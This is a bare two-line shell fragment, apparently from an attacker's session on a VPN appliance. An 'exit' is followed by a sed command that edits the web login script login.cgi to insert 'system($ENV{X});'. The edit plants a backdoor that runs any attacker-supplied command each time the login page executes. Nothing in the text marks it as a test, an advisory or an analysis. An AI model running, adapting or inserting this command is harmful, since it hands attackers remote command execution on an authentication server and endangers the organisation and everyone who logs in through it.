exit
sed -i '/use strict;/a system($ENV{X});' /home/webserver/htdocs/dana-na/auth/login.cgi
